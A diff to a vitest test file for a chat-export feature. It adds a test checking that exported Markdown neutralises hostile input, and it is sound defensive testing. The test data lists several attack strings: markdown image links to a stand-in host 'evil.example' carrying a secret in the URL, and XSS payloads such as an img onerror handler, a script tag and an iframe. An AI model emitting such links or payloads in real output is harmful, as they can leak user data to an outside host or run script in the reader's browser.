@@ -1,3 +1,6 @@
+import { createElement } from 'react';
+import { renderToStaticMarkup } from 'react-dom/server';
+import ReactMarkdown from 'react-markdown';
 import { expect, it } from 'vitest';
 import { conversationAsMarkdown, fileName } from '@/features/conversations/export';
 import { groupByDay } from '@/features/conversations/group-by-day';
@@ -37,6 +40,37 @@ it('writes a conversation as Markdown, with the sources that were cited', () => 
   expect(text).toContain('## Why?');
   expect(text).toContain('Because [1].\n\n[1] a.pdf, p. 3');
   expect(text).not.toContain('[2]');
+});
+
+it('writes nothing into Markdown that a program would run or fetch', () => {
+  const hostile = [
+    '![x](https://evil.example/?q=SECRET)',
+    '![x][r]\n\n[r]: https://evil.example',
+    '\\![x](https://evil.example)',
+    '```\n```\n![x](https://evil.example)',
+    '<img src=x onerror=alert(1)>',
+    '<!-- --><script>alert(1)</script>',
+    '</p><iframe src="https://evil.example">',
+    'a < b and List<String>',
+  ];
+  for (const text of hostile) {
+    const written = conversationAsMarkdown({
+      ...at('2026-03-10T15:00:00Z'),
+      title: text,
+      messages: [
+        { role: 'user', text } as Message,
+        {
+          role: 'assistant',
+          text,
+          sources: [{ filename: text, page: null }],
+          citations: [{ n: 1 }],
+        } as unknown as Message,
+      ],
+    });
+    expect(written).not.toMatch(/<[a-z/!?]/i);
+    const shown = renderToStaticMarkup(createElement(ReactMarkdown, null, written));
+    expect(shown).not.toContain('<img');
+  }
 });
 
 it('makes file names that every system takes', () => {
